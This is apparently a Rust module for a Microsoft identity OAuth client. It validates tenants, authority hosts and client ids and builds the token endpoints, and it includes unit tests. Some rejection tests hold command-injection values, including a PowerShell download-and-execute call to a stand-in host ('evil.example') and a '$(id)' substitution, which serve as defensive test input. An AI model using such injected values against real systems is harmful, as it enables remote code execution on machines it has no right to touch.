//! Who is asked for tokens: the cloud, the authority's host, the tenant, and their endpoints.
//!
//! Facts as data, a cloud a row. Speaks no HTTP.

mod cloud;

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};
use url::{Host, Url};

use crate::error::{Error, Expected, Result};
use crate::foreign::is_visible;
use crate::locales::{Message, fl};
use crate::names;

pub(crate) use cloud::Cloud;

/// The tenants that stand for many ("Endpoints", OpenID Connect on the Microsoft identity platform).
const ALIASES: [&str; 3] = ["common", "organizations", CONSUMERS];
const CONSUMERS: &str = "consumers";
/// The tenant of all personal accounts: `consumers` as a GUID.
const PERSONAL_ACCOUNTS: &str = "9188040d-6c67-4c5b-b112-36a304b66dad";

/// The first segment of every endpoint's path: who may sign in ("Endpoints", OpenID Connect on
/// the Microsoft identity platform).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct Tenant(String);

impl Tenant {
    /// The segment as it is sent.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// True if it names one organization: only there can an app ask in its own name.
    pub fn is_one_organization(&self) -> bool {
        !ALIASES.contains(&self.as_str()) && self.0 != PERSONAL_ACCOUNTS
    }

    /// Personal accounts only.
    pub fn consumers() -> Self {
        Self(CONSUMERS.to_owned())
    }

    /// True for the tenant of all personal accounts.
    pub fn is_consumers(&self) -> bool {
        self.0 == CONSUMERS || self.0 == PERSONAL_ACCOUNTS
    }
}

impl Default for Tenant {
    fn default() -> Self {
        Self("common".to_owned())
    }
}

impl FromStr for Tenant {
    type Err = Expected;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let tenant = text.trim().to_ascii_lowercase();
        let is_alias = ALIASES.contains(&tenant.as_str());
        if is_alias || is_guid(&tenant) {
            return Ok(Self(tenant));
        }
        if let Some(Host::Domain(domain)) = names::host(&tenant)
            && domain.contains('.')
            && !domain.ends_with('.')
        {
            return Ok(Self(domain));
        }
        let expected = fl!("authority-expected-tenant");
        Err(Expected::or_named(expected, ALIASES))
    }
}

crate::names::read_from_string!(Tenant);

impl From<Tenant> for String {
    fn from(tenant: Tenant) -> Self {
        tenant.0
    }
}

impl fmt::Display for Tenant {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(&self.0)
    }
}

/// The scheme, host and port of an authority: https, or http on loopback.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct AuthorityHost(String);

impl AuthorityHost {
    /// The scheme, host and port as they are written.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// Hosts of Microsoft's under which authorities answered before those of [`Cloud`], and still do
/// (the hosts that MSAL knows without asking).
const OLDER_HOSTS: [&str; 6] = [
    "https://login.windows.net",
    "https://login.microsoft.com",
    "https://sts.windows.net",
    "https://login.chinacloudapi.cn",
    "https://login-us.microsoftonline.com",
    "https://login.usgovcloudapi.net",
];

impl AuthorityHost {
    /// True for a host of Microsoft's in any cloud. What is sent to another one reaches whoever runs
    /// it.
    pub fn is_microsofts(&self) -> bool {
        Cloud::is_authority_host(&self.0) || OLDER_HOSTS.contains(&self.as_str())
    }
}

impl FromStr for AuthorityHost {
    type Err = Expected;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let with_scheme = if text.contains("://") {
            text.to_owned()
        } else {
            format!("https://{text}")
        };
        // A URL is read without the line breaks in it.
        let url = Url::parse(&with_scheme).ok().filter(|_| is_visible(text));
        let url = url.ok_or_else(|| Expected::new(expected_https()))?;
        let is_good = |host| names::is_host(&host) && names::is_as_written(&host, text);
        if !url.host().is_some_and(is_good) {
            return Err(Expected::new(fl!("authority-expected-host")));
        }
        let bare = url.path() == "/" && url.query().is_none() && url.fragment().is_none();
        if !bare || !url.username().is_empty() || url.password().is_some() {
            return Err(Expected::new(fl!("authority-expected-host-only")));
        }
        match url.scheme() {
            _ if is_private(&url) => {}
            "http" => {
                return Err(Expected::new(fl!("authority-http-loopback-only")));
            }
            _ => return Err(Expected::new(expected_https())),
        }
        Ok(Self(url.as_str().trim_end_matches('/').to_owned()))
    }
}

fn expected_https() -> Message {
    fl!("authority-expected-https-url")
}

crate::names::read_from_string!(AuthorityHost);

impl From<AuthorityHost> for String {
    fn from(host: AuthorityHost) -> Self {
        host.0
    }
}

/// An authority: a host and a tenant. A code is redeemed at the tenant alias it was issued by
/// (AADSTS700005), so one authority serves both legs of a sign-in.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Authority {
    /// Scheme, host and port.
    #[serde(rename = "authority_host")]
    pub host: AuthorityHost,
    /// The first segment of the path.
    pub tenant: Tenant,
}

impl Authority {
    /// The authorization endpoint (RFC 6749 §3.1).
    pub(crate) fn authorization_endpoint(&self) -> String {
        self.endpoint("authorize")
    }

    /// The token endpoint (RFC 6749 §3.2).
    pub(crate) fn token_endpoint(&self) -> String {
        self.endpoint("token")
    }

    /// The device authorization endpoint (RFC 8628 §3.1).
    pub(crate) fn device_authorization_endpoint(&self) -> String {
        self.endpoint("devicecode")
    }

    /// The description of all endpoints (OpenID Connect Discovery 1.0 §4; "OpenID Connect on the
    /// Microsoft identity platform").
    pub(crate) fn openid_configuration(&self) -> String {
        let (host, tenant) = (&self.host.0, &self.tenant);
        format!("{host}/{tenant}/v2.0/.well-known/openid-configuration")
    }

    /// The host's name, to be named when it cannot be reached.
    pub(crate) fn host_name(&self) -> &str {
        self.host
            .0
            .split_once("://")
            .map_or(&self.host.0, |(_, host)| host)
    }

    fn endpoint(&self, name: &str) -> String {
        format!("{}/{}/oauth2/v2.0/{name}", self.host.0, self.tenant)
    }
}

/// True for the address of a page: a host, reached so that nobody reads along.
pub(crate) fn is_page(url: &Url) -> bool {
    let has_user = !url.username().is_empty() || url.password().is_some();
    is_private(url) && !has_user && url.host().is_some_and(|host| names::is_host(&host))
}

/// True for https, and for http that does not leave this machine.
fn is_private(url: &Url) -> bool {
    url.scheme() == "https" || url.scheme() == "http" && is_loopback(url)
}

/// True for `localhost` and the addresses of the loopback interface.
pub(crate) fn is_loopback(url: &Url) -> bool {
    match url.host() {
        Some(Host::Domain(name)) => name == "localhost",
        Some(Host::Ipv4(address)) => address.is_loopback(),
        Some(Host::Ipv6(address)) => address.is_loopback(),
        None => false,
    }
}

/// True for the textual form of a GUID (RFC 9562 §4).
pub(crate) fn is_guid(text: &str) -> bool {
    text.len() == 36
        && text
            .bytes()
            .enumerate()
            .all(|(position, byte)| match position {
                8 | 13 | 18 | 23 => byte == b'-',
                _ => byte.is_ascii_hexdigit(),
            })
}

/// The application (client) id of an app registration: a GUID.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct ClientId(String);

impl ClientId {
    /// The id as it is sent.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The error of a first sign-in that names no app. `account` is the flag that was given for the
    /// account's name, with a blank before it, or nothing.
    pub fn missing(account: &str) -> Error {
        Error::usage(fl!("authority-no-client-id", account))
    }
}

impl FromStr for ClientId {
    type Err = Expected;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let id = text.trim();
        if is_guid(id) {
            return Ok(Self(id.to_ascii_lowercase()));
        }
        Err(Expected::new(fl!("authority-expected-client-id")))
    }
}

crate::names::read_from_string!(ClientId);

impl From<ClientId> for String {
    fn from(id: ClientId) -> Self {
        id.0
    }
}

impl fmt::Display for ClientId {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_app_can_ask_in_one_organization_only() {
        for (tenant, can) in [
            ("common", false),
            ("organizations", false),
            ("consumers", false),
            (PERSONAL_ACCOUNTS, false),
            ("contoso.onmicrosoft.com", true),
            ("6f89cf12-978b-4d23-ac18-9ef0c127cf87", true),
        ] {
            let tenant: Tenant = tenant.parse().expect("a tenant");
            assert_eq!(tenant.is_one_organization(), can, "{tenant}");
        }
    }

    #[test]
    fn a_tenant_is_an_alias_a_guid_or_a_domain() {
        for good in [
            "common",
            "Organizations",
            "consumers",
            "6F89CF12-978b-4d23-ac18-9ef0c127cf87",
            "contoso.onmicrosoft.com",
            "例え.jp",
        ] {
            let tenant = good.parse::<Tenant>().expect("a tenant");
            assert!(tenant.as_str().is_ascii(), "{good}");
            assert_eq!(tenant.as_str().parse(), Ok(tenant.clone()));
        }
        for bad in [
            "",
            "contoso",
            "a/b.com",
            "common/../x.y",
            "a b.com",
            "1.2.3.4",
            "x.y?z",
            "a..b",
            ".b",
            "x';iex(irm('evil.example'));'.y",
            "$(id).example",
            "a&b.example",
            "a!b.example",
            "{a}.example",
            "-a.example",
        ] {
            assert!(bad.parse::<Tenant>().is_err(), "{bad}");
        }
    }

    #[test]
    fn an_authority_host_is_https_or_loopback() {
        for (text, host) in [
            (
                "https://login.microsoftonline.com/",
                "https://login.microsoftonline.com",
            ),
            (
                "login.microsoftonline.us",
                "https://login.microsoftonline.us",
            ),
            ("http://localhost:8080", "http://localhost:8080"),
            ("http://127.0.0.1:1", "http://127.0.0.1:1"),
            ("https://[::1]:9/", "https://[::1]:9"),
        ] {
            assert_eq!(
                text.parse::<AuthorityHost>().map(String::from).as_deref(),
                Ok(host)
            );
        }
        for bad in [
            "http://login.microsoftonline.com",
            "https://login.microsoftonline.com/common",
            "https://user:pw@login.microsoftonline.com",
            "ftp://localhost",
            "",
            "https://x';iex(irm('evil.example'));'.y",
            "https://$(id).example",
            "https://a&b.example",
            "https://a\nb.example",
            "https://a\u{200b}b.example",
        ] {
            assert!(bad.parse::<AuthorityHost>().is_err(), "{bad}");
        }
    }

    #[test]
    fn the_endpoints_carry_the_tenant() {
        let authority = Authority {
            host: Cloud::Global.authority_host(),
            tenant: Tenant::default(),
        };
        assert_eq!(
            authority.token_endpoint(),
            "https://login.microsoftonline.com/common/oauth2/v2.0/token"
        );
        assert_eq!(authority.host_name(), "login.microsoftonline.com");
    }

    #[test]
    fn a_client_id_is_a_guid() {
        assert!(
            "00001111-aaaa-2222-bbbb-3333cccc4444"
                .parse::<ClientId>()
                .is_ok()
        );
        for bad in [
            "",
            "app",
            "00001111aaaa2222bbbb3333cccc4444",
            "00001111-aaaa-2222-bbbb-3333cccc444g",
        ] {
            assert!(bad.parse::<ClientId>().is_err(), "{bad}");
        }
    }
}
